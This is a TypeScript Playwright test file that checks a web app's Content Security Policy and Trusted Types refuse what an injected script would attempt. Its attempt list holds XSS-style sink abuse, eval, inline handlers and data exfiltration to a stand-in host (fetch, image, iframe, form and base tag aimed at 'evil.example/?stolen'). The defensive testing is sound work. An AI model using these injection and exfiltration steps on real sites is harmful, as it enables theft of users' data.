import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openBrowser, openWindow, type Window } from './support/people.ts';

let browser: Browser;
beforeAll(async () => void (browser = await openBrowser()));
afterAll(() => browser.close());

/** What a script that got into the page would try next. */
const ATTEMPTS: readonly {
  readonly what: string;
  readonly run: () => Promise<string> | string;
  readonly refusedBy: RegExp;
}[] = [
  {
    what: 'markup from a text',
    run: () => {
      document.createElement('div').innerHTML = '<img src=x>';
      return 'made';
    },
    refusedBy: /require-trusted-types-for refused trusted-types-sink/,
  },
  {
    what: 'a document from a text',
    run: () => {
      new DOMParser().parseFromString('<p>x</p>', 'text/html');
      return 'made';
    },
    refusedBy: /require-trusted-types-for refused trusted-types-sink/,
  },
  {
    what: 'a script by its address',
    run: () => {
      document.createElement('script').src = '/assets/x.js';
      return 'made';
    },
    refusedBy: /require-trusted-types-for refused trusted-types-sink/,
  },
  {
    what: 'a policy of its own',
    run: () => {
      const { trustedTypes } = globalThis as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => object };
      };
      trustedTypes.createPolicy('mine', { createHTML: (text: string) => text });
      return 'made';
    },
    refusedBy: /trusted-types refused trusted-types-policy mine/,
  },
  {
    what: 'code from a text',
    // In a task of its own: what the browser's tools run at once may do this everywhere.
    run: () =>
      new Promise((resolve) => {
        setTimeout(() => {
          try {
            // oxlint-disable-next-line no-eval -- that it fails is what is tested
            resolve(`made ${eval('1 + 1')}`);
          } catch {
            resolve('refused');
          }
        });
      }),
    refusedBy: /refused (trusted-types-sink|eval)/,
  },
  {
    what: 'a handler in an attribute',
    run: () => {
      document.body.setAttribute('onclick', 'globalThis.pwned = true');
      document.body.click();
      return 'pwned' in globalThis ? 'made' : 'refused';
    },
    refusedBy: /refused (trusted-types-sink|inline)/,
  },
  {
    what: 'words sent elsewhere',
    run: () => fetch('https://evil.example/?stolen').then(String),
    refusedBy: /connect-src refused https:\/\/evil\.example/,
  },
  {
    what: 'words in the address of a picture',
    run: () =>
      new Promise((resolve) => {
        const image = new Image();
        image.addEventListener('error', () => resolve('refused'));
        image.src = 'https://evil.example/?stolen';
      }),
    refusedBy: /img-src refused https:\/\/evil\.example/,
  },
  {
    what: 'a foreign page inside',
    run: () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
      return 'refused';
    },
    refusedBy: /frame-src refused https:\/\/evil\.example/,
  },
  {
    what: 'a form that goes elsewhere',
    run: () => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/';
      document.body.append(form);
      form.submit();
      return 'refused';
    },
    refusedBy: /form-action refused https:\/\/evil\.example/,
  },
  {
    what: 'another base for addresses',
    run: () => {
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.append(base);
      return document.baseURI.includes('evil') ? 'made' : 'refused';
    },
    refusedBy: /base-uri refused https:\/\/evil\.example/,
  },
];

describe('a script that got into a page', () => {
  let window: Window;
  let page: Page;
  beforeAll(async () => {
    window = await openWindow(browser, { locale: 'en', as: 'patient' });
    ({ page } = window);
    await page.getByRole('main').getByRole('listitem').first().waitFor();
    expect(window.complaints).toEqual([]);
  });
  afterAll(() => window.context.close());

  test.each(ATTEMPTS)('gets no further with $what', async ({ run, refusedBy }) => {
    window.complaints.length = 0;
    const outcome = await page.evaluate(run).catch((error: unknown) => String(error));
    expect(outcome).not.toMatch(/made/);
    await expect.poll(() => window.complaints.join('\n')).toMatch(refusedBy);
  });
});
